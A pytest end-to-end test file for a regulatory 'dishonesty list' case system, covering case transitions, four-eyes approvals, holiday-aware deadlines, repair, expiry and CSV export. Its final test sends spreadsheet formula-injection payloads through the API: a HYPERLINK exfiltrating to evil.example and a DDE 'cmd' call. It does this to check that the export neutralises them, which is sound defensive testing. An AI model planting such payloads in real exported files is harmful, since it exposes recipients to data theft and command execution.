"""Dishonesty cases through the real app on both backends, with a clock the test moves across
the National Day holidays: every path end to end, forbidden moves refused by rule, four eyes,
objection windows, publication periods, joint punishment lifted by repair, and the list
exported for other agencies."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any

import pytest
from sqlalchemy import select

from service.core.cases.service import Names, open_from_warnings
from service.core.cases.tables import Case, Measure
from service.core.db.tables import ContractCheck, RescoreRequest, RiskWarning
from tests.service.web.api.conftest import Api

pytestmark = pytest.mark.e2e
CASES = "/api/v1/cases"


class Clock:
    """Ten in the morning in Beijing on a settable day."""

    def __init__(self, day: date) -> None:
        self.set(day)

    def set(self, day: date) -> None:
        self.now = datetime(day.year, day.month, day.day, 2, 0, tzinfo=UTC)

    def __call__(self) -> datetime:
        return self.now


@pytest.fixture
def clock(api: Api) -> Iterator[Clock]:
    before = api.ctx.clock
    api.ctx.clock = c = Clock(date(2026, 9, 28))  # a Monday before the National Day week
    yield c
    api.ctx.clock = before


def act(api: Api, case_id: int, action: str, user: str, expect: int = 200,
        **body: Any) -> dict[str, Any]:
    answer = api.post(f"{CASES}/{case_id}/actions/{action}", user, json=body)
    assert answer.status_code == expect, answer.text
    return answer.json()


def open_case(api: Api, subject_id: str, conduct: str | None, kind: str = "institution",
              user: str = "regulator_all", expect: int = 201) -> dict[str, Any]:
    answer = api.post(CASES, user, json={"subject_kind": kind, "subject_id": subject_id,
                                         "conduct": conduct, "reason": "registry audit finding"})
    assert answer.status_code == expect, answer.text
    return answer.json()["case"]


def determine(api: Api, case_id: int, severity: str, conduct: str) -> dict[str, Any]:
    """Proposed by one regulator, approved by another person (four eyes)."""
    fields = {"reason": "contracts registered without real transfer", "conduct": conduct,
              "severity": severity, "basis": "《技术合同认定登记管理办法》第二十条",
              "decision_number": f"京科信〔2026〕{case_id}号"}
    proposed = act(api, case_id, "determine", "regulator_all", 202, **fields)
    assert proposed["proposed"] and proposed["case"]["pending_by"] == "regulator_all"
    return act(api, case_id, "determine", "admin", reason="approved")["case"]


def test_flagged_to_listed_to_repaired_to_removed(api: Api, clock: Clock) -> None:
    subject = api.entities.institution_in
    case = open_case(api, subject, "false_registration")
    assert (case["state"], case["actions"]) == ("flagged", ["investigate", "dismiss"])
    cid = case["id"]
    assert act(api, cid, "investigate", "regulator_all", reason="take it")["case"][
        "assignee"] == "regulator_all"
    case = determine(api, cid, "general", "false_registration")
    assert (case["state"], case["decided_on"], case["pending_action"]) == (
        "determined", "2026-09-28", None)
    case = act(api, cid, "notify", "regulator_all", reason="notice served")["case"]
    # 15 working days over the National Day week, with Saturday 10 October worked in lieu
    assert (case["state"], case["objection_due"]) == ("notified", "2026-10-23")
    early = act(api, cid, "list", "regulator_all", 409, reason="list it")
    assert early["detail"]["rule"] == "objection_window_open"
    clock.set(date(2026, 10, 26))
    late = act(api, cid, "object", "institution", 409, reason="we object")
    assert late["detail"]["rule"] == "objection_window_closed"
    act(api, cid, "list", "regulator_all", 202, reason="window closed without objection")
    case = act(api, cid, "list", "admin", reason="approved")["case"]
    assert (case["state"], case["listed_on"], case["repair_from"], case["publication_ends"],
            case["published"]) == ("listed", "2026-10-26", "2026-12-28", "2027-09-28", True)
    score = api.get(f"/api/v1/institutions/{subject}/score", "regulator_all").json()
    assert score["listing"] == {
        "case_id": cid, "state": "listed", "conduct": "false_registration",
        "severity": "general", "published": True, "listed_on": "2026-10-26",
        "publication_ends": "2027-09-28"}

    measure = api.post(f"{CASES}/{cid}/measures", "regulator_all", json={
        "measure": "restrict_funding", "agency": "科技部资源配置与管理司",
        "starts": "2026-10-27", "ends": "2027-09-28"})
    assert measure.status_code == 201, measure.text
    listed = api.get("/api/v1/dishonesty-list?format=csv", "regulator_all")
    rows = list(csv.DictReader(io.StringIO(listed.text)))
    mine = [r for r in rows if r["unified_code"] == subject]
    assert [(r["conduct"], r["conduct_zh"], r["severity"], r["decision_number"],
             r["published_until"], r["status"]) for r in mine] == [
        ("false_registration", "虚假登记骗取优惠", "general", f"京科信〔2026〕{cid}号",
         "2027-09-28", "listed")]

    too_early = act(api, cid, "request_repair", "institution", 409, reason="fixed",
                    remediation="refunded the relief", commitment=True, evidence_files=[1])
    assert too_early["detail"]["rule"] == "repair_too_early"
    clock.set(date(2026, 12, 28))
    content = "整改报告：已退回税收优惠".encode()
    upload = api.post(f"{CASES}/{cid}/files", "institution", json={
        "name": "整改报告.txt", "media_type": "text/plain",
        "content_base64": base64.b64encode(content).decode()})
    assert upload.status_code == 201, upload.text
    assert upload.json()["sha256"] == hashlib.sha256(content).hexdigest()
    file_id = upload.json()["id"]
    missing = act(api, cid, "request_repair", "institution", 422, reason="fixed")
    assert {d["field"] for d in missing["detail"]} == {
        "body.remediation", "body.commitment", "body.evidence_files"}
    case = act(api, cid, "request_repair", "institution", reason="corrected",
               remediation="refunded the relief", commitment=True,
               evidence_files=[file_id])["case"]
    # 10 working days into 2027, whose holidays are not published yet: New Year's Day is
    # skipped (fixed by law) and the deadline is marked provisional
    assert (case["state"], case["repair_due"], case["deadline_provisional"]) == (
        "repair_requested", "2027-01-12", True)
    proposed = act(api, cid, "repair", "admin", 202, reason="remediation verified")
    assert proposed["case"]["state"] == "repair_requested"  # lifting a listing: four eyes
    case = act(api, cid, "repair", "regulator_all", reason="agreed")["case"]
    assert (case["state"], case["published"]) == ("repaired", False)
    score = api.get(f"/api/v1/institutions/{subject}/score", "regulator_all").json()
    assert score["listing"] is None  # repair shows beside the score at once
    with api.session() as session:
        lifted = session.scalars(select(Measure).where(Measure.case_id == cid)).all()
    assert [m.lifted_reason for m in lifted] == ["case repaired"]
    listed = api.get("/api/v1/dishonesty-list", "regulator_all").json()["items"]
    assert subject not in {e["unified_code"] for e in listed}
    act(api, cid, "remove", "regulator_all", 202, reason="off the list")
    case = act(api, cid, "remove", "admin", reason="agreed")["case"]
    assert (case["state"], case["actions"]) == ("removed", [])

    detail = api.get(f"{CASES}/{cid}", "regulator_all").json()
    assert [e["action"] for e in detail["events"]] == [
        "open", "investigate", "propose:determine", "determine", "notify", "propose:list",
        "list", "add_measure", "attach_file", "request_repair", "propose:repair", "repair",
        "propose:remove", "remove"]
    notice = next(e for e in detail["events"] if e["action"] == "notify")
    assert "2026-10-23" in notice["detail"]["rights_zh"] and notice["detail"]["basis"]
    assert [f["sha256"] for f in detail["files"]] == [hashlib.sha256(content).hexdigest()]
    download = api.get(f"{CASES}/{cid}/files/{file_id}", "institution")
    assert download.content == content
    assert api.get(f"{CASES}/{cid}", "institution").status_code == 200


def test_objection_overturned_closes_the_case(api: Api, clock: Clock) -> None:
    cid = open_case(api, api.entities.institution_in, "split_contracts")["id"]
    act(api, cid, "investigate", "regulator_all", reason="take it")
    determine(api, cid, "serious", "split_contracts")
    act(api, cid, "notify", "regulator_all", reason="notice served")
    case = act(api, cid, "object", "institution", reason="the contracts are real")["case"]
    assert (case["state"], case["answer_due"]) == ("objection", "2026-10-16")
    act(api, cid, "overturn", "regulator_all", 202, reason="evidence of delivery")
    case = act(api, cid, "overturn", "admin", reason="agreed")["case"]
    assert (case["state"], case["actions"]) == ("overturned", [])
    refused = act(api, cid, "list", "admin", 409, reason="list it")
    assert refused["detail"]["rule"] == "transition_not_allowed"
    # the conduct is free again: a new case may be opened
    assert open_case(api, api.entities.institution_in, "split_contracts")["id"] != cid


def test_who_objected_for_the_subject_cannot_undo_the_determination(api: Api,
                                                                    clock: Clock) -> None:
    """A regulator records the subject's paper objection, then tries to overturn the two
    regulators' determination: refused and audited, whoever proposed it."""
    cid = open_case(api, api.entities.institution_out, "inflated_amount")["id"]
    act(api, cid, "investigate", "regulator_all", reason="take it")
    determine(api, cid, "general", "inflated_amount")
    act(api, cid, "notify", "regulator_all", reason="notice served")
    act(api, cid, "object", "regulator_all", reason="paper objection filed at the counter")
    mark = api.audit_mark()
    refused = act(api, cid, "overturn", "regulator_all", 409, reason="I agree with them")
    assert refused["detail"]["rule"] == "separation_of_duties"
    act(api, cid, "overturn", "admin", 202, reason="evidence of delivery")
    refused = act(api, cid, "overturn", "regulator_all", 409, reason="approve")
    assert refused["detail"]["rule"] == "separation_of_duties"
    assert [(e.action, e.outcome) for e in api.audit_since(mark)] == [
        ("case.overturn", "refused"), ("case.propose:overturn", "ok"),
        ("case.overturn", "refused")]
    assert api.get(f"{CASES}/{cid}", "admin").json()["state"] == "objection"


def test_objection_upheld_listing_repair_denied_and_expiry_at_the_maximum(
        api: Api, clock: Clock) -> None:
    cid = open_case(api, api.entities.broker_in, "circular_trade", kind="broker")["id"]
    act(api, cid, "investigate", "regulator_all", reason="take it")
    determine(api, cid, "general", "circular_trade")
    act(api, cid, "notify", "regulator_all", reason="notice served")
    clock.set(date(2026, 10, 9))
    # brokers file on paper: a regulator records it, and decides nothing on this case after
    act(api, cid, "object", "regulator_all", reason="the broker objects")
    clock.set(date(2026, 10, 23))  # answer was due on 22 October: overdue
    queue = api.get(f"{CASES}/queue?overdue=true", "regulator_all").json()["items"]
    assert [(i["case_id"], i["due_kind"], i["due"]) for i in queue if i["case_id"] == cid] == [
        (cid, "objection_answer", "2026-10-22")]
    act(api, cid, "uphold", "admin", reason="objection unfounded")
    clock.set(date(2026, 10, 26))
    assert act(api, cid, "list", "regulator_all", 409, reason="list")["detail"]["rule"] == \
        "separation_of_duties"
    act(api, cid, "list", "regulator_region", 202, reason="list")
    case = act(api, cid, "list", "admin", reason="approved")["case"]
    assert case["publication_ends"] == "2027-09-28"
    clock.set(date(2026, 12, 28))
    act(api, cid, "request_repair", "regulator_all", reason="applied on paper",
        remediation="left the circle", commitment=True, evidence_files=[
            api.post(f"{CASES}/{cid}/files", "regulator_all", json={
                "name": "letter.pdf", "media_type": "application/pdf",
                "content_base64": base64.b64encode(b"%PDF-1.4 x").decode()}).json()["id"]])
    case = act(api, cid, "deny_repair", "admin", reason="still trading in a circle")["case"]
    assert case["state"] == "repair_denied"
    clock.set(date(2027, 9, 27))
    assert api.post(f"{CASES}/sweep", "regulator_all").json() == []
    clock.set(date(2027, 9, 28))  # the maximum: off the list even before the sweep records it
    listed = api.get("/api/v1/dishonesty-list", "regulator_all").json()["items"]
    assert api.entities.broker_in not in {e["unified_code"] for e in listed}
    swept = api.post(f"{CASES}/sweep", "regulator_all").json()
    assert [(c["id"], c["state"]) for c in swept] == [(cid, "removed")]
    events = api.get(f"{CASES}/{cid}", "regulator_all").json()["events"]
    assert (events[-1]["action"], events[-1]["actor"]) == ("expire", "system")


def test_dismissal_forbidden_moves_missing_fields_and_scope(api: Api, clock: Clock) -> None:
    cid = open_case(api, api.entities.broker_out, "inflated_amount", kind="broker")["id"]
    refused = act(api, cid, "list", "regulator_all", 409, reason="straight to the list")
    assert refused["detail"]["rule"] == "transition_not_allowed"
    assert "cannot list" in refused["detail"]["message"]
    act(api, cid, "investigate", "regulator_all", reason="take it")
    missing = act(api, cid, "determine", "regulator_all", 422, reason="no fields")
    assert {d["field"] for d in missing["detail"]} == {
        "body.conduct", "body.severity", "body.basis", "body.decision_number"}
    # the institution may not work cases, nor see others' cases; a regional regulator only
    # sees its regions
    assert api.post(f"{CASES}/{cid}/actions/dismiss", "institution",
                    json={"reason": "no"}).status_code == 403
    assert api.get(f"{CASES}/{cid}", "institution").status_code == 403
    assert api.get(f"{CASES}/{cid}", "regulator_region").status_code == 403
    assert api.post(f"{CASES}/{cid}/actions/expire", "admin",
                    json={"reason": "by hand"}).status_code == 409
    case = act(api, cid, "dismiss", "regulator_all", reason="amounts verified")["case"]
    assert (case["state"], case["actions"]) == ("dismissed", [])
    assert act(api, cid, "investigate", "regulator_all", 409, reason="again")["detail"][
        "rule"] == "transition_not_allowed"


def test_concurrent_transitions_on_one_case_cannot_both_win(api: Api, clock: Clock) -> None:
    cid = open_case(api, api.entities.institution_in, "research_integrity")["id"]
    version = api.get(f"{CASES}/{cid}", "regulator_all").json()["version"]

    def move(action: str) -> int:
        return api.post(f"{CASES}/{cid}/actions/{action}", "regulator_all", json={
            "reason": action, "expected_version": version}).status_code

    with ThreadPoolExecutor(2) as pool:
        codes = sorted(pool.map(move, ["investigate", "dismiss"]))
    assert codes == [200, 409]
    with api.session() as session:
        case = session.get(Case, cid)
        assert case is not None and case.version == version + 1


def test_warnings_open_flagged_cases_once_and_a_second_opening_merges(api: Api,
                                                                      clock: Clock) -> None:
    as_of = date.fromisoformat("2020-06-30")
    with api.session() as session:
        warned = session.scalars(select(RiskWarning).where(RiskWarning.as_of == as_of)).all()
    # the most severe tier the tiny market has opens cases here (red by default)
    tier = min({w.tier for w in warned}, key=["red", "orange", "yellow", "blue"].index)
    red = [w for w in warned if w.tier == tier]
    policy = replace(api.ctx.case_policy, open_tiers=frozenset({tier}))
    first = open_from_warnings(api.ctx.sessions, as_of, policy, Names({}, {}), clock())
    again = open_from_warnings(api.ctx.sessions, as_of, policy, Names({}, {}), clock())
    assert again == []
    opened = {(o.case.subject_kind, o.case.subject_id) for o in first}
    assert opened == {(w.entity_kind, w.entity_id) for w in red}
    w = red[0]
    case = next(o.case for o in first if o.case.subject_id == w.entity_id)
    [evidence] = case.evidence
    assert (case.state, case.source, case.warning_id, case.model_version) == (
        "flagged", "warning", w.id, w.model_version)
    assert (evidence["tier"], evidence["reasons_en"]) == (tier, w.reasons_en)
    merged = open_case(api, w.entity_id, None, kind=w.entity_kind, expect=200)
    assert merged["id"] == case.id and len(merged["evidence"]) == 2


def test_the_exported_list_neutralises_formulas_sent_through_the_api(api: Api,
                                                                     clock: Clock) -> None:
    """Names, bases and decision numbers come from users and go to other agencies' Excel:
    a cell that would run as a formula arrives as text (a leading apostrophe)."""
    subject = api.entities.institution_in
    opened = api.post(CASES, "regulator_all", json={
        "subject_kind": "institution", "subject_id": subject, "conduct": "false_registration",
        "subject_name": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
        "reason": "registry audit finding"})
    assert opened.status_code == 201, opened.text
    cid = opened.json()["case"]["id"]
    act(api, cid, "investigate", "regulator_all", reason="take it")
    fields = {"reason": "contracts registered without real transfer",
              "conduct": "false_registration", "severity": "general",
              "basis": "=cmd|' /C calc'!A0", "decision_number": "+1+SUM(1)"}
    act(api, cid, "determine", "regulator_all", 202, **fields)
    act(api, cid, "determine", "admin", reason="approved")
    act(api, cid, "notify", "regulator_all", reason="notice served")
    clock.set(date(2026, 10, 26))
    act(api, cid, "list", "regulator_all", 202, reason="window closed without objection")
    act(api, cid, "list", "admin", reason="approved")
    with api.session() as session:  # the listing queued its brokers for a same-day re-score
        brokers = set(session.scalars(select(ContractCheck.broker_id).where(
            ContractCheck.institution_id == subject, ContractCheck.broker_id.is_not(None))))
        queued = session.scalars(select(RescoreRequest).where(
            RescoreRequest.cause == "listed", RescoreRequest.cause_id == str(cid))).all()
    assert brokers and {(r.entity_kind, r.entity_id) for r in queued} == {
        ("broker", b) for b in brokers} and len(queued) == len(brokers)
    listed = api.get("/api/v1/dishonesty-list?format=csv", "regulator_all")
    mine = [r for r in csv.DictReader(io.StringIO(listed.text)) if r["unified_code"] == subject]
    assert [(r["subject_name"], r["basis"], r["decision_number"]) for r in mine] == [
        ("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")", "'=cmd|' /C calc'!A0",
         "'+1+SUM(1)")]
